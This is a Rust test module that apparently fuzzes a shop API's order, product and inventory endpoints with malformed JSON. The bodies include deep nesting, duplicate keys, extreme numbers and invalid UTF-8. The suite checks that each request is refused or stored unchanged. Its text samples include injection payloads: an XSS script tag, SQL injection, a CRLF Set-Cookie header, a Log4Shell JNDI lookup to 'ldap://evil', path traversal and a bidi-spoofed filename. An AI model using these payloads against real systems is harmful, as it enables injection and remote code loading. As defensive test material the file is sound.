//! Bodies: JSON that is deep, long or at odds with itself, numbers beyond all numbers, and text that is none.

use serde_json::{Value, json};

use super::line::{Attack, SKU, attack, shop};
use crate::api::{expect, key, post, send, text};
use crate::support::API_KEY;
use relampago_load::Request;

/// A request of an administrator, with any bytes for a body.
fn sent(method: &str, path: &str, body: &[u8], outcome: &str) -> Attack {
    let head = format!(
        "{method} {path} HTTP/1.1\r\nHost: shop\r\nContent-Type: application/json\r\nX-API-Key: {API_KEY}\r\n\
         X-Request-Id: attack\r\nIdempotency-Key: {}\r\nContent-Length: {}\r\n\r\n",
        key(),
        body.len()
    );
    let shown = String::from_utf8_lossy(&body[..body.len().min(60)]).into_owned();
    Attack::new(format!("{method} {path} {shown}"), [head.as_bytes(), body].concat(), outcome)
}

fn structures() -> Vec<Attack> {
    let line = format!(r#"{{"sku":"{SKU}","quantity":1}}"#);
    let members = |count: usize| (0..count).map(|n| format!("\"{n}\":0,")).collect::<String>();
    let bodies = [
        ("[".repeat(100_000), "400 marker"),
        ("{\"a\":".repeat(100_000), "400 marker"),
        (format!("{{\"items\":{}{}}}", "[".repeat(100_000), "]".repeat(100_000)), "400 marker"),
        (
            format!(
                "{{\"shipping_address\":{}1{},\"items\":[{line}]}}",
                "{\"a\":".repeat(31),
                "}".repeat(31)
            ),
            "201 marker",
        ),
        (
            format!(
                "{{\"shipping_address\":{}1{},\"items\":[{line}]}}",
                "{\"a\":".repeat(32),
                "}".repeat(32)
            ),
            "400 marker",
        ),
        (format!("{{\"items\":[{line}],\"items\":[{line}]}}"), "400 marker"),
        (format!("{{\"items\":[{line}],\"\\u0069tems\":[]}}"), "400 marker"),
        ("{\"items\":[{\"sku\":\"A\",\"sku\":\"B\",\"quantity\":1}]}".to_owned(), "400 marker"),
        (format!("{{{}\"a\":0}}", members(60_000)), "422 marker"),
        (format!("{{{}\"7\":0}}", members(60_000)), "400 marker"),
        (format!("{{\"items\":[{}{line}]}}", format!("{line},").repeat(20_000)), "422 marker"),
        (format!("{{\"items\":[{}1]}}", "1,".repeat(300_000)), "422 marker"),
        (format!("{{\"items\":[{line}]}}{{}}"), "400 marker"),
        (format!("{{\"items\":[{line}]}}\0"), "400 marker"),
        (format!("\u{feff}{{\"items\":[{line}]}}"), "400 marker"),
        (format!("{{\"items\":[{line},]}}"), "400 marker"),
        (format!("{{\"items\":[{line}]/**/}}"), "400 marker"),
        (format!("{{'items':[{line}]}}"), "400 marker"),
        (format!("{{\"__proto__\":{{}},\"items\":[{line}]}}"), "422 marker"),
        (format!("[[{line}]]"), "400 marker"),
        ("null".to_owned(), "400 marker"),
        ("\"".to_owned() + &"x".repeat(500_000), "400 marker"),
        (" ".repeat(1 << 20), "400 marker"),
        (" ".repeat((1 << 20) + 1), "413 marker"),
    ];
    bodies
        .into_iter()
        .map(|(body, outcome)| sent("POST", "/api/v1/orders", body.as_bytes(), outcome))
        .collect()
}

/// Numbers, and whether they are a number of units, an amount, and JSON at all.
fn numbers() -> Vec<Attack> {
    let nines = "9".repeat(400);
    let (fraction, zeros) = (format!("0.1{}", "0".repeat(400)), format!("1{}", "0".repeat(100_000)));
    let refused = [
        "0",
        "-0",
        "-1",
        "1.0",
        "1e0",
        "1e999",
        "1e-999",
        "-1e999",
        "1000",
        "4294967296",
        "4294967297",
        "9223372036854775807",
        "9223372036854775808",
        "-9223372036854775809",
        "18446744073709551616",
        "\"1\"",
        "true",
        "[1]",
        "{}",
        &nines,
        &fraction,
        &zeros,
    ];
    let malformed =
        ["NaN", "Infinity", "-Infinity", "0x1", "01", "+1", "1.", ".1", "1e", "1_0", "--1", "\u{661}"];
    let quantity = |number: &str| format!(r#"{{"items":[{{"sku":"{SKU}","quantity":{number}}}]}}"#);
    let price =
        |number: &str| format!(r#"{{"name":"n","sku":"{}","price":{number},"stock_quantity":1}}"#, key());
    let stock =
        |number: &str| format!(r#"{{"name":"n","sku":"{}","price":1,"stock_quantity":{number}}}"#, key());
    let delta = |number: &str| format!(r#"{{"delta":{number},"reason":"r"}}"#);
    let order =
        |number: &str, outcome: &str| sent("POST", "/api/v1/orders", quantity(number).as_bytes(), outcome);
    let product = |body: String, outcome: &str| sent("POST", "/api/v1/products", body.as_bytes(), outcome);
    let adjustments = format!("/api/v1/inventory/{SKU}/adjustments");
    let mut attacks = Vec::new();
    attacks.extend(refused.map(|number| order(number, "422 marker")));
    attacks.extend(malformed.map(|number| order(number, "400 marker")));
    attacks.extend(malformed.map(|number| product(price(number), "400 marker")));
    for number in [
        "-1",
        "1e999",
        "0.001",
        "92233720368547.76",
        "-0.01",
        "true",
        "\"1,5\"",
        "\"NaN\"",
        "\"\\u0661\"",
        &nines,
        &fraction,
    ] {
        attacks.push(product(price(number), "422 marker"));
    }
    for number in ["0", "-0", "1e0", "199e-2", "0.1", "92233720368547.75", "\"19.99\""] {
        attacks.push(product(price(number), "201 marker"));
    }
    for number in ["-1", "0.5", "9223372036854775808", "1e3", &nines] {
        attacks.push(product(stock(number), "422 marker"));
    }
    for number in ["1e3", "9223372036854775807", "-9223372036854775808", "9223372036854775808", "0.5", &nines]
    {
        attacks.push(sent("POST", &adjustments, delta(number).as_bytes(), "422 marker"));
    }
    attacks
}

/// Text as JSON writes it, that may be refused or kept, but neither changed nor stumbled over.
const TEXTS: [&str; 14] = [
    "\\u0000",
    "a\\u0000b",
    "\\u202e\\u2066evil\\u2069",
    "\u{202e}gnp.exe",
    "\\ufeff",
    "\\uffff",
    "\\ud83d\\ude00",
    "\u{10ffff}",
    "e\u{301}\u{301}\u{301}",
    "\\r\\nSet-Cookie: a=b",
    "<script>alert(1)</script>",
    "' OR 1=1 --",
    "${jndi:ldap://evil}",
    "..\\/..\\/etc",
];
/// Text that is none: half a character in UTF-16, or no UTF-8.
const NO_TEXTS: [&[u8]; 9] = [
    b"\\ud800",
    b"\\udfff",
    b"\\ud800\\u0041",
    b"\\ude00\\ud83d",
    b"\xff",
    b"\xc0\xaf",
    b"\xe0\x80\xaf",
    b"\xed\xa0\x80",
    b"\xf4\x90\x80\x80",
];

/// Bodies with `?` for a text, and `!` for what nothing else is called.
const FIELDS: [(&str, &str); 11] = [
    ("/api/v1/products", r#"{"name":"?","sku":"!","price":"1.00","stock_quantity":1}"#),
    ("/api/v1/products", r#"{"name":"n","sku":"?","price":"1.00","stock_quantity":1}"#),
    (
        "/api/v1/products",
        r#"{"name":"n","sku":"!","description":"?","category":"?","price":"1.00","stock_quantity":1}"#,
    ),
    ("/api/v1/products", r#"{"name":"n","sku":"!","price":"?","currency":"?","stock_quantity":1}"#),
    ("/api/v1/orders", r#"{"items":[{"sku":"?","quantity":1}]}"#),
    (
        "/api/v1/orders",
        r#"{"items":[{"sku":"NONE","quantity":1}],"email":"?@?.com","shipping_address":{"?":"?"},"payment_method":"?"}"#,
    ),
    ("/api/v1/users", r#"{"name":"?","email":"?@example.com","phone":"?"}"#),
    ("/api/v1/inventory/PRIZE/adjustments", r#"{"delta":0,"reason":"?"}"#),
    ("/api/v1/api-keys", r#"{"name":"?","scopes":["?"]}"#),
    ("/api/v1/payments/process", r#"{"order_id":"?","amount":"?","payment_method":"?","token":"?"}"#),
    ("/api/v1/auth/refresh", r#"{"refresh_token":"?"}"#),
];

fn fields() -> Vec<Attack> {
    let filled = |body: &str, by: &[u8]| {
        let mut filled = Vec::new();
        for byte in body.replace('!', &key()).bytes() {
            if byte == b'?' { filled.extend_from_slice(by) } else { filled.push(byte) }
        }
        filled
    };
    let mut attacks = Vec::new();
    for (path, body) in FIELDS {
        attacks.extend(TEXTS.map(|text| sent("POST", path, &filled(body, text.as_bytes()), "-")));
        attacks.extend(NO_TEXTS.map(|text| sent("POST", path, &filled(body, text), "400 marker")));
    }
    attacks
}

#[tokio::test]
async fn a_body_is_understood_or_refused() {
    let shop = shop().await;
    attack(&shop, structures, 1).await;
    attack(&shop, numbers, 0).await;
    attack(&shop, fields, 0).await;
}

#[tokio::test]
async fn odd_text_is_kept_as_it_is() {
    let shop = shop().await;
    let mut staff = shop.staff();
    for written in TEXTS {
        let name: Value = serde_json::from_str(&format!("\"{written}\"")).unwrap();
        let product =
            json!({ "name": name, "sku": key(), "description": name, "price": "1.00", "stock_quantity": 1 });
        let made = post(&mut staff, "/api/v1/products", product).await;
        // What is refused says so; what is not is there, character for character.
        if made.code() == 201 {
            let made = expect(&made, 201);
            let shown =
                send(&mut staff, Request::get(format!("/api/v1/products/{}", text(&made, "id")))).await;
            let shown = expect(&shown, 200);
            assert_eq!((&shown["name"], &shown["description"]), (&name, &name));
        } else {
            assert_eq!(made.code(), 422, "{written}");
        }
    }
}
